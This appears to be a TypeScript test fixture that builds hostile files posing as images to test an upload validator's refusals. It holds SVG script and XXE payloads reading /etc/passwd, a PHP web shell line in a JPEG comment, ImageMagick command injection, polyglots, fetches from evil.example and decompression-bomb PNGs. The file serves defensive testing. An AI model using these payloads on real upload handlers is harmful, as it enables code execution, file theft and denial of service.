import { deflateSync } from 'node:zlib'
import { asDataUrl, picture } from '../pictures.ts'

export interface HostileImage {
  dataUrl: string
  /** Whether it must be refused; otherwise it may be accepted, but only as an image. */
  refused?: boolean
}

const labelled = (type: string, bytes: Buffer | string): string =>
  asDataUrl(Buffer.from(bytes as string), type)
const refused = (type: string, bytes: Buffer | string): HostileImage => ({
  dataUrl: labelled(type, bytes),
  refused: true,
})
const either = (type: string, bytes: Buffer | string): HostileImage => ({
  dataUrl: labelled(type, bytes),
})

const svg = (inside: string) =>
  refused('image/svg+xml', `<svg xmlns="http://www.w3.org/2000/svg">${inside}</svg>`)
const page = '<html><script>alert(1)</script></html>'

const crcTable = Array.from({ length: 256 }, (_, byte) => {
  let crc = byte
  for (let bit = 0; bit < 8; bit++) crc = crc & 1 ? 0xedb88320 ^ (crc >>> 1) : crc >>> 1
  return crc >>> 0
})

function crcOf(bytes: Buffer): number {
  let crc = 0xffffffff
  for (const byte of bytes) crc = (crcTable[(crc ^ byte) & 255] ?? 0) ^ (crc >>> 8)
  return (crc ^ 0xffffffff) >>> 0
}

function chunk(type: string, data: Buffer): Buffer {
  const body = Buffer.concat([Buffer.from(type, 'latin1'), data])
  const framed = Buffer.alloc(body.length + 8)
  framed.writeUInt32BE(data.length, 0)
  body.copy(framed, 4)
  framed.writeUInt32BE(crcOf(body), body.length + 4)
  return framed
}

interface Png {
  width: number
  height: number
  data?: Buffer
  /** The data, if it is compressed already. */
  packed?: Buffer
  before?: Buffer[]
  interlaced?: boolean
}

/** A PNG whose header may differ from its data. */
function png({ width, height, data = Buffer.alloc(0), packed, before = [], interlaced }: Png) {
  const header = Buffer.alloc(13)
  header.writeUInt32BE(width, 0)
  header.writeUInt32BE(height, 4)
  header.set([8, 2, 0, 0, interlaced ? 1 : 0], 8)
  return Buffer.concat([
    Buffer.from('\x89PNG\r\n\x1a\n', 'latin1'),
    chunk('IHDR', header),
    ...before,
    chunk('IDAT', packed ?? deflateSync(data)),
    chunk('IEND', Buffer.alloc(0)),
  ])
}

const zeros = (megabytes: number) => Buffer.alloc(megabytes * 1_000_000)
const fortyPacked = deflateSync(zeros(40))
const text = (keyword: string, packed: Buffer) =>
  chunk('zTXt', Buffer.concat([Buffer.from(`${keyword}\0\0`), packed]))

function gif(width: number, height: number, rest = ''): Buffer {
  const head = Buffer.from('GIF89a\0\0\0\0\x80\0\0\0\0\0\xff\xff\xff', 'latin1')
  head.writeUInt16LE(width, 6)
  head.writeUInt16LE(height, 8)
  const frame = Buffer.from(',\0\0\0\0\x01\0\x01\0\0\x02\x02D\x01\0', 'latin1')
  return Buffer.concat([head, frame, Buffer.from(`${rest};`, 'latin1')])
}

function jpegSized(bytes: Buffer, width: number, height: number): Buffer {
  const copy = Buffer.from(bytes)
  const frame = copy.findIndex(
    (byte, at) => byte === 0xff && [0xc0, 0xc2].includes(copy[at + 1] ?? 0),
  )
  copy.writeUInt16BE(height, frame + 5)
  copy.writeUInt16BE(width, frame + 7)
  return copy
}

function webpSized(width: number, height: number): Buffer {
  const body = Buffer.alloc(18)
  body.write('VP8X', 0)
  body.writeUInt32LE(10, 4)
  body.writeUIntLE(width - 1, 12, 3)
  body.writeUIntLE(height - 1, 15, 3)
  const head = Buffer.alloc(12)
  head.write('RIFF', 0)
  head.writeUInt32LE(body.length + 4, 4)
  head.write('WEBP', 8)
  return Buffer.concat([head, body])
}

const withComment = (jpeg: Buffer, comment: string) => {
  const segment = Buffer.from(`\xff\xfe\0\0${comment}`, 'latin1')
  segment.writeUInt16BE(comment.length + 2, 2)
  return Buffer.concat([jpeg.subarray(0, 2), segment, jpeg.subarray(2)])
}

/** Files that claim to be images. */
export const hostileImages: Record<string, () => HostileImage | Promise<HostileImage>> = {
  'svg with a script': () => svg('<script>alert(1)</script>'),
  'svg with a handler': () => svg('<rect width="9" height="9" onload="alert(1)"/>'),
  'svg with a foreign object': () =>
    svg(
      '<foreignObject><body xmlns="http://www.w3.org/1999/xhtml" onload="alert(1)"/></foreignObject>',
    ),
  'svg with an image of another host': () => svg('<image href="https://evil.example/x.png"/>'),
  'svg with a style of another host': () =>
    svg('<style>@import "https://evil.example/x.css"</style>'),
  'svg with an external entity': () =>
    refused(
      'image/svg+xml',
      '<!DOCTYPE svg [<!ENTITY e SYSTEM "file:///etc/passwd">]><svg xmlns="http://www.w3.org/2000/svg"><text>&e;</text></svg>',
    ),
  'svg with a billion laughs': () =>
    refused(
      'image/svg+xml',
      `<!DOCTYPE svg [<!ENTITY a "x">${Array.from({ length: 25 }, (_, i) => `<!ENTITY ${String.fromCharCode(98 + i)} "&${String.fromCharCode(97 + i)};&${String.fromCharCode(97 + i)};">`).join('')}]><svg><text>&z;</text></svg>`,
    ),
  'svg with a stylesheet of XML': () =>
    refused('image/svg+xml', '<?xml-stylesheet href="https://evil.example/x.xsl"?><svg/>'),
  'svg that calls itself a PNG': () =>
    refused('image/png', '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'),
  'svg of a billion pixels': () =>
    refused('image/svg+xml', '<svg width="100000" height="100000"/>'),
  'a page that calls itself a PNG': () => refused('image/png', page),
  'a page that calls itself a page': () => refused('text/html', page),
  'a script that calls itself an image': () => refused('text/javascript', 'alert(1)'),
  'a type that breaks out of its attribute': () => refused('image/png;x="><script>', page),
  'the first bytes of a PNG, then a page': () =>
    refused('image/png', Buffer.from(`\x89PNG\r\n\x1a\n${page}`, 'latin1')),
  'the first bytes of a GIF, then a script': () =>
    either('image/gif', 'GIF89a/*<script>alert(1)</script>*/=1;alert(1)'),
  'a GIF that is a script too': () => either('image/gif', gif(10_799, 10_799, '*/=1;alert(1)//')),
  'a GIF with a page behind it': () => either('image/gif', gif(1, 1, page)),
  'a JPEG with a page in its comment': async () =>
    either('image/jpeg', withComment(await picture('#123456', { format: 'jpeg' }), page)),
  'a JPEG with a PHP script in its comment': async () =>
    either(
      'image/jpeg',
      withComment(await picture('#123457', { format: 'jpeg' }), '<?php system($_GET[0]); ?>'),
    ),
  'a JPEG with a PDF behind it': async () =>
    either(
      'image/jpeg',
      Buffer.concat([
        await picture('#123458', { format: 'jpeg' }),
        Buffer.from('%PDF-1.7\n1 0 obj<</JS(app.alert(1))>>'),
      ]),
    ),
  'a JPEG with an archive behind it': async () =>
    either(
      'image/jpeg',
      Buffer.concat([
        await picture('#123459', { format: 'jpeg' }),
        Buffer.from('PK\x03\x04\x14\0', 'latin1'),
      ]),
    ),
  'a PDF that calls itself a JPEG': () =>
    refused('image/jpeg', '%PDF-1.7\n1 0 obj<</Type/Catalog>>'),
  'an archive that calls itself a PNG': () =>
    refused('image/png', Buffer.from('PK\x03\x04\x14\0\0\0\x08\0', 'latin1')),
  'a program that calls itself a GIF': () =>
    refused('image/gif', Buffer.from('MZ\x90\0\x03', 'latin1')),
  'a PostScript file': () => refused('image/png', '%!PS\n(/etc/passwd) (r) file'),
  'a vector file of ImageMagick': () =>
    refused(
      'image/png',
      'push graphic-context\nfill \'url(https://evil.example/x.jpg"|id")\'\npop graphic-context',
    ),
  'a playlist': () => refused('image/gif', '#EXTM3U\nfile:///etc/passwd'),
  'a TIFF': () => refused('image/tiff', Buffer.from('II*\0\x08\0\0\0', 'latin1')),
  'a bitmap': () => refused('image/bmp', Buffer.from('BM6\0\0\0', 'latin1')),
  'an icon': () => refused('image/x-icon', Buffer.from('\0\0\x01\0\x01\0', 'latin1')),
  'a HEIC': () => refused('image/heic', Buffer.from('\0\0\0\x18ftypheic\0\0\0\0', 'latin1')),
  'a PNG of four billion times four billion': () =>
    refused('image/png', png({ width: 0xffffffff, height: 0xffffffff })),
  'a PNG of two billion times one': () =>
    refused('image/png', png({ width: 0x7fffffff, height: 1 })),
  'a PNG of 30,000 times 30,000': () =>
    refused('image/png', png({ width: 30_000, height: 30_000, data: zeros(30) })),
  'a PNG just above the limit': () => refused('image/png', png({ width: 7100, height: 7100 })),
  'a PNG of nothing': () => refused('image/png', png({ width: 0, height: 0 })),
  'an interlaced PNG of many pixels': () =>
    either('image/png', png({ width: 7000, height: 7000, data: zeros(1), interlaced: true })),
  'a PNG that unpacks to more than it says': () =>
    either('image/png', png({ width: 1, height: 1, packed: fortyPacked })),
  'a PNG that unpacks to less than it says': () =>
    either('image/png', png({ width: 500, height: 500 })),
  'a PNG with a text that unpacks to 40 MB': () =>
    either(
      'image/png',
      png({ width: 1, height: 1, data: Buffer.alloc(4), before: [text('a', fortyPacked)] }),
    ),
  'a PNG with ten texts that unpack to 2 MB': () => {
    const before = Array(10).fill(text('a', deflateSync(zeros(2))))
    return either('image/png', png({ width: 1, height: 1, data: Buffer.alloc(4), before }))
  },
  'a PNG with a profile that unpacks to 40 MB': () =>
    either(
      'image/png',
      png({
        width: 1,
        height: 1,
        data: Buffer.alloc(4),
        before: [chunk('iCCP', Buffer.concat([Buffer.from('x\0\0'), fortyPacked]))],
      }),
    ),
  'a PNG with a wrong checksum': () => {
    const bytes = png({ width: 9, height: 9 })
    bytes[29] = (bytes[29] ?? 0) ^ 255
    return either('image/png', bytes)
  },
  'a PNG cut short': async () =>
    either('image/png', (await picture('#abcdef', { width: 200, height: 200 })).subarray(0, 60)),
  'a narrow PNG taller than any copy can be': async () =>
    either('image/png', await picture('#fedcba', { width: 4, height: 40_000 })),
  'a GIF of 65,535 times 65,535': () => refused('image/gif', gif(65_535, 65_535)),
  'a JPEG of 65,535 times 65,535': async () =>
    refused('image/jpeg', jpegSized(await picture('#111111', { format: 'jpeg' }), 65_535, 65_535)),
  'a WebP of 16 million times 16 million': () =>
    refused('image/webp', webpSized(16_777_216, 16_777_216)),
  'a WebP with nothing inside': () => either('image/webp', webpSized(10, 10)),
  'an AVIF with nothing inside': () =>
    refused('image/avif', Buffer.from('\0\0\0\x18ftypavif\0\0\0\0', 'latin1')),
  'a JPEG cut short': async () =>
    either(
      'image/jpeg',
      (await picture('#222222', { format: 'jpeg', width: 300, height: 300 })).subarray(0, 700),
    ),
  'a JPEG of three bytes': () => refused('image/jpeg', Buffer.from([0xff, 0xd8, 0xff])),
  'nothing at all': () => ({ dataUrl: 'data:image/png;base64,', refused: true }),
  'no base64': () => ({
    dataUrl: 'data:image/png;base64,<script>alert(1)</script>',
    refused: true,
  }),
  'an image in percent signs': () => ({ dataUrl: 'data:image/png,%89PNG', refused: true }),
  'a header without an end': () => ({
    dataUrl: `data:image/png${';a=b'.repeat(50_000)}`,
    refused: true,
  }),
  'twenty-one megabytes': () =>
    refused('image/png', Buffer.concat([png({ width: 1, height: 1 }), zeros(20)])),
}
